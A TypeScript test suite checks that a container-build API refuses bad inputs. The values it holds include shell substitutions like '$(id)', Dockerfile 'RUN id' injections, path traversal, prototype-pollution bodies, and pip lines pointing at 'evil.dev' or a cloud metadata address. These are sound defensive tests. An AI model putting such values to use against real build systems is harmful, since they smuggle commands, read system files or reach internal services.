// oxlint-disable vitest/expect-expect -- expectRefused expects
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { listen, type Listening } from '../../src/node/listen.ts'
import { seed, world, type World } from './world.ts'

// Rows 21 to 52 of the bad inputs, and 16 to 18 for this API, over real HTTP. After each the server still answers, and no build is there
// that was not accepted.

let its: World
let server: Listening
let accepted = 0

beforeAll(async () => {
  its = world({ engine: { worker: false } })
  server = await listen({ handler: () => its.handler })
})
afterAll(async () => {
  await server[Symbol.asyncDispose]()
  await its[Symbol.asyncDispose]()
})

interface Answer {
  readonly status: number
  readonly json: { readonly error?: string; readonly code?: string }
}

async function post(body: unknown, path = '/api/builds'): Promise<Answer> {
  const response = await fetch(`${server.address}${path}`, {
    method: 'POST',
    headers: { authorization: 'Bearer acme', 'content-type': 'application/json' },
    body: typeof body === 'string' || body instanceof Uint8Array ? (body as string) : JSON.stringify(body),
  })
  expect(response.headers.get('content-type')).toBe('application/json')
  if (response.status === 202) accepted += 1
  return { status: response.status, json: (await response.json()) as Answer['json'] }
}

async function expectRefused(body: unknown, status: number, code: string, path?: string): Promise<string> {
  const answer = await post(body, path)
  expect({ status: answer.status, code: answer.json.code }).toEqual({ status, code })
  expect(Object.keys(answer.json).sort()).toEqual(['code', 'error'])
  const { error = '' } = answer.json
  expect(error.length).toBeLessThan(600)
  // oxlint-disable-next-line no-control-regex -- that none of them is echoed
  expect(error).not.toMatch(/[\x00-\x1f\x7f\u2028\u202e]| at .*\.ts|\/work\//)
  expect(await its.engine.for('acme').count()).toBe(accepted)
  return error
}

const of = (more: object): object => ({ ...seed, ...more })
const files = (map: Record<string, unknown>): object => ({ name: 'a', files: { 'main.py': 'print(1)', ...map } })

describe('16 to 18: JSON', () => {
  test.each<[string, string | Uint8Array]>([
    ['invalid UTF-8', new Uint8Array([0x7b, 0xff, 0x7d])],
    ['a byte order mark', '\uFEFF{}'],
    ['half a pair', '{"name":"\\ud800","files":{"a":"b"}}'],
    ['a trailing comma', '{"name":"a",}'],
    ['NaN', '{"name":NaN}'],
    ['nothing', ''],
    ['null', 'null'],
    ['a list', '[]'],
    ['a text', '"x"'],
    ['33 levels', '{"a":'.repeat(33) + '1' + '}'.repeat(33)],
  ])('%s: 400 invalid_json', async (_, body) => {
    await expectRefused(body, 400, 'invalid_json')
  })

  test('26 MiB: 413', async () => {
    await expectRefused(files({ 'a.txt': 'a'.repeat(26 * 2 ** 20) }), 413, 'payload_too_large')
  })
})

describe('21 to 24: name', () => {
  test.each<[unknown]>([
    [undefined],
    [''],
    [null],
    [5],
    [['a']],
    ['My Agent'],
    ['UPPER'],
    ['a_b/../c'],
    ['--privileged'],
    ['-x'],
    ['x-'],
    ['a:b'],
    ['a@sha256'],
    ['a'.repeat(64)],
    ['0'.repeat(64)],
    ['.'],
    ['con'],
    ['com1'],
    ['\u0430gent'],
    ['a\u200dgent'],
    ['a\n'],
    ['a\r'],
    ['a\u2028'],
    ['a\u0000'],
    ['a"'],
    ['$(id)'],
    ['`id`'],
    ['a;b'],
    ['a b'],
    ['a.b'],
    ['a/b'],
    ['x'.repeat(100_000)],
  ])('%j: 400 invalid_name', async (name) => {
    await expectRefused(of({ name }), 400, 'invalid_name')
  })

  test.each(['a', '0', 'a'.repeat(63), 'a--b', 'my-agent'])('%s is one', async (name) => {
    expect((await post(of({ name }))).status).toBe(202)
  })
})

describe('25 to 37: files', () => {
  test.each<[unknown]>([[undefined], [{}], [[]], [['a.py']], ['text'], [null], [5]])('%j: 400 invalid_files', async (map) => {
    await expectRefused(of({ files: map }), 400, 'invalid_files')
  })

  test.each<[unknown]>([[5], [null], [{}], [true], [['a']]])('the value %j: 400 with the key', async (value) => {
    expect(await expectRefused(files({ 'x.py': value }), 400, 'invalid_files')).toContain('x.py')
  })

  test('a key that is named is escaped and cut', async () => {
    expect(await expectRefused(files({ ['\u202e\n' + 'x'.repeat(5000)]: 5 }), 400, 'invalid_files')).toContain('\\u{202e}\\u{a}xxx')
  })

  test.each([
    '../a.py',
    'a/../../b',
    'a/..',
    '..',
    '/etc/x',
    '//x',
    'C:\\x',
    'C:x',
    '\\\\srv\\s',
    'a\\b',
    'CON',
    'aux.py',
    'a.',
    'a ',
    'a\0b',
    'a\nb',
    'a\u007f',
    'a\u202e',
    '',
    ' ',
    'a//b',
    'a/',
    'é'.repeat(2500),
    'a'.repeat(256),
    'a/'.repeat(64) + 'a',
    'a/./b',
  ])('the key %j: 400 invalid_path', async (key) => {
    await expectRefused(files({ [key]: 'x' }), 400, 'invalid_path')
  })

  test.each<[Record<string, string>]>([
    [{ './a': '1', a: '2' }],
    [{ 'A.py': '1', 'a.py': '2' }],
    [{ 'caf\u00e9': '1', 'cafe\u0301': '2' }],
    [{ a: '1', 'a/b.py': '2' }],
    [{ './requirements.txt': '1', 'requirements.txt': '2' }],
  ])('the keys of %j: 400 path_collision', async (map) => {
    await expectRefused(files(map), 400, 'path_collision')
  })

  test('5,000 files are taken, 5,001 are not', async () => {
    const many = (count: number): object =>
      files(Object.fromEntries(Array.from({ length: count - 1 }, (_, i) => [`d${i % 50}/f${i}.txt`, 'x'])))
    expect((await post(many(5000))).status).toBe(202)
    await expectRefused(many(5001), 413, 'too_many_files')
  })

  test('a file of 10 MiB is taken, one byte more is not', async () => {
    expect((await post(files({ 'a.txt': 'a'.repeat(10 * 2 ** 20) }))).status).toBe(202)
    await expectRefused(files({ 'a.txt': 'a'.repeat(10 * 2 ** 20 + 1) }), 413, 'payload_too_large')
    await expectRefused(files({ 'a.txt': 'é'.repeat(5 * 2 ** 20 + 1) }), 413, 'payload_too_large')
  })

  test('a million keys: 413', async () => {
    const keys = Array.from({ length: 1_000_000 }, (_, i) => `"${i}":""`).join(',')
    await expectRefused(`{"name":"a","files":{${keys}}}`, 413, 'payload_too_large')
  })
})

describe('38 to 40: entry_point', () => {
  test.each([
    'missing.py',
    '../x.py',
    '/x',
    'a.py\nRUN id',
    'a.py","-c',
    '$(id).py',
    '-m',
    '',
    '.',
    'src',
    './',
    '__proto__',
    'constructor',
  ])('%j: 400 entry_point_not_found', async (entry_point) => {
    await expectRefused({ ...files({ 'src/x.txt': '1' }), entry_point }, 400, 'entry_point_not_found')
  })

  test.each<[unknown]>([[{}], [5], [['main.py']], [true]])('%j: 400', async (entry_point) => {
    await expectRefused({ ...files({}), entry_point }, 400, 'invalid_input')
  })

  test('a file that is really called so is a word of the command, never code', async () => {
    const name = '$(id).py'
    expect((await post({ name: 'odd', files: { [name]: 'print(1)' }, entry_point: name })).status).toBe(202)
    const [record] = await its.engine.for('acme').list({ name: 'odd', limit: 1 })
    const build = await its.engine.for('acme').get(record!.id)
    expect(JSON.stringify(await build!.stored('recipe'))).toMatch(/CMD \[\\+"python\\+", \\+"\$\(id\)\.py\\+"\]/)
  })

  test('a kiln.json that names a file that is not there: 400', async () => {
    await expectRefused(files({ 'kiln.json': '{"entrypoint":"gone.py"}' }), 400, 'entry_point_not_found')
  })

  test('a file called as an option is none', async () => {
    await expectRefused({ name: 'opt', files: { '-m.py': 'print(1)' }, entry_point: '-m.py' }, 400, 'entry_point_not_found')
    await expectRefused({ name: 'opt', files: { '-m.py': 'print(1)' }, entry_point: './-m.py' }, 400, 'entry_point_not_found')
  })
})

describe('41 to 43: requirements', () => {
  test.each([
    '--index-url http://169.254.169.254/',
    '-i http://x',
    '-r /etc/passwd',
    '-e git+file:///',
    'x @ file:///etc',
    'x@https://evil.dev/x.whl',
    'git+https://evil.dev/x',
    'https://evil.dev/x.whl',
    './x',
    '../x',
    '/etc',
    'sub/dir',
    '.',
    'x.whl',
    'pkg-1.0.tar.gz',
    'x.zip',
    '-c http://x',
    '--extra-index-url=http://x',
    '--pre',
    'requests --index-url http://x',
    'requests --pre',
    'requests \\\n --config-settings x=y',
    'requests\n--find-links http://x',
    'requests \\\n --index-url http://x',
    'requests\u2028--index-url http://x',
    'requests\v-e .',
    'requests\x1c-e .',
    '${HOME}',
    'a\\b',
    '# coding: utf-7\n+AC0-e .',
    'ok # fine\n  -r other.txt',
    'requests ; python_version > "3"\n-f x',
    '# comment \\\n-r x',
  ])('%j: 400 disallowed_requirement', async (requirements) => {
    await expectRefused({ ...files({}), requirements }, 400, 'disallowed_requirement')
  })

  test.each([
    'openai>=1.0\nrequests',
    'requests[socks,security]~=2.31 ; python_version >= "3.8"',
    '# only a comment\nflask==3.0.*',
    'a_b.c',
    'flask ==3.0.0',
    'requests==2.31.0 \\\n    --hash=sha256:58cd2187c01e70e6e26505bca751777aa9f2ee0b7f4300988b709f44e013003f \\\n    --hash=sha256:942c5a758f98d790eaed1a29cb6eefc7ffb0d1cf7af05c3d2791656dbd6ad1e1\n',
    '# -*- coding: utf-8 -*-\r\nrequests\r\n',
    'requests # see https://x.dev/-r',
    '',
  ])('%j is fine', async (requirements) => {
    expect((await post({ ...files({}), requirements })).status).toBe(202)
  })

  test.each<[unknown]>([['a\n'.repeat(2 ** 19 + 1)], ['requests\0'], [5], [{}], [['requests']]])('%.20j: 400', async (requirements) => {
    await expectRefused({ ...files({}), requirements }, 400, 'invalid_input')
  })

  test('what is no requirement is said with its line', async () => {
    expect(await expectRefused({ ...files({}), requirements: 'x\nRUN id' }, 400, 'invalid_manifest')).toContain('requirements.txt:2')
  })
})

describe('44 to 49: the rest', () => {
  test.each<[unknown]>([['langchain\nFROM x'], ['../../'], ['a\0'], ['x'.repeat(101)], ['-x'], [5], [{}], ['a"b'], ['$(id)']])(
    'framework %j: 400',
    async (framework) => {
      await expectRefused({ ...files({}), framework }, 400, 'invalid_input')
    },
  )

  test('a Dockerfile with a frontend of its own: 400', async () => {
    await expectRefused(files({ Dockerfile: '# syntax=evil/x\nFROM scratch\n' }), 400, 'frontend_not_allowed')
  })

  test('a Dockerfile without FROM: 400 with the line', async () => {
    await expectRefused(files({ Dockerfile: 'RUN id\n' }), 400, 'invalid_dockerfile')
  })

  test.each(['*(*(*(a|b)))', '*'.repeat(34), '**/'.repeat(11) + 'a', 'a\n'.repeat(10_000), '!..', '/../x'])(
    '.dockerignore %.20j',
    async (text) => {
      const { status, json } = await post(files({ '.dockerignore': text }))
      expect([202, 400]).toContain(status)
      if (status === 400) expect(json.code).toMatch(/^invalid_ignore_file$|^empty_source$|^nothing_detected$/)
    },
  )

  test.each([
    ['one line of 9 MB', `x = "${'a'.repeat(9 * 2 ** 20)}"`],
    ['nested quotes', `f"{f'{f"{1}"}'}"`.repeat(10_000)],
    ['many imports', 'import a.b.c\n'.repeat(100_000)],
  ])('source for the import scan: %s', async (_, text) => {
    expect((await post({ name: 'a', files: { 'main.py': text } })).status).toBe(202)
  })

  test('odd imports install nothing', async () => {
    const text = 'import os\nimport __proto__\nimport -evil\nimport constructor\nimport totally_unknown_name_9\nprint(1)\n'
    const { json } = await post({ files: { 'main.py': text } }, '/api/requirements')
    expect(json).toEqual({ requirements: [], entry_point: 'main.py' })
  })

  test('unknown fields are ignored, and pollute nothing', async () => {
    const body = `{"name":"a","files":{"main.py":"print(1)"},"build_args":{"__proto__":{"polluted":1}},"__proto__":{"polluted":1}}`
    expect((await post(body)).status).toBe(202)
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined()
  })
})

describe('the same doors for /analyze and /requirements', () => {
  test.each(['/api/analyze', '/api/requirements', '/ingestion/analyze'])('%s', async (path) => {
    await expectRefused({}, 400, 'invalid_files', path)
    await expectRefused({ files: {} }, 400, 'invalid_files', path)
    await expectRefused({ files: { '../a': 'x' } }, 400, 'invalid_path', path)
    await expectRefused({ files: { a: 5 } }, 400, 'invalid_files', path)
    await expectRefused('[]', 400, 'invalid_json', path)
    await expectRefused('', 400, 'invalid_json', path)
  })
})
